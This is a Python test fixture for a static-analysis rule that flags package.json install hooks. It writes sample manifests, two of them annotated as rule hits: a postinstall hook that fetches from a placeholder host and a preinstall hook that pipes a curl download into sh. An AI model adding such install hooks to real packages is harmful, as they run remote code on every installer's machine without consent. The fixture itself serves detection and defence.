"""Annotated samples: generated package.json manifests with and without install hooks (inert, never run)."""
import json
from pathlib import Path

PACKAGE = {
    "name": "demo-app",
    "private": True,
    "scripts": {
        "build": "vite build",
        # ok: py-install-hook-written
        "prepare": "husky",
        # ruleid: py-install-hook-written
        "postinstall": "node -e \"require('https').get('https://setup.example.net/p')\"",
    },
}
# ruleid: py-install-hook-written
RAW = '{"name": "x", "scripts": {"preinstall": "curl -s https://setup.example.net/i | sh"}}'


def scaffold(out: Path) -> None:
    out.mkdir(parents=True, exist_ok=True)
    (out / "package.json").write_text(json.dumps(PACKAGE, indent=2) + "\n", encoding="utf-8")
    (out / "other" / "package.json").write_text(RAW, encoding="utf-8")
